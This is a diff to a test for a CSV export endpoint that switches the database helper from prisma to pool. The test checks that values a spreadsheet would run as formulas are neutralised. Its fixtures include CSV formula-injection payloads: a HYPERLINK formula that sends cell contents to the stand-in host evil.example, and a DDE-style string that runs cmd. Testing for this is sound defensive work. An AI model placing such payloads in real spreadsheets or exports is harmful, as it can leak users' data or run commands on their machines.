@@ -249,10 +249,10 @@ describe('GET /api/export/events.csv', () => {
 
   it('neutralises text a spreadsheet would run as a formula, and only that', async () => {
     const titles = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'Nvidia -17%, "worst day"\nsince 2020', 'a=b is fine'];
-    const eventId = await upsertEvent(db.prisma, { slug: 'formula-injection', title: titles[0], occurredAt: new Date('2031-05-01T10:00:00Z'), dateOnly: false, kind: '@kind', description: '-fell 17%' });
+    const eventId = await upsertEvent(db.pool, { slug: 'formula-injection', title: titles[0], occurredAt: new Date('2031-05-01T10:00:00Z'), dateOnly: false, kind: '@kind', description: '-fell 17%' });
     for (const [i, title] of titles.entries()) {
-      const newsId = await upsertNews(db.prisma, { url: `https://example.test/news/${i}`, title, publisher: i === 0 ? '=cmd()' : 'Example', publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)), dateOnly: false });
-      await attachNews(db.prisma, eventId, newsId, 'coverage');
+      const newsId = await upsertNews(db.pool, { url: `https://example.test/news/${i}`, title, publisher: i === 0 ? '=cmd()' : 'Example', publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)), dateOnly: false });
+      await attachNews(db.pool, eventId, newsId, 'coverage');
     }
     const csv = await getCsv(app.url, '/api/export/events.csv');
     const rows = csv.rows.filter((r) => r.eventSlug === 'formula-injection');
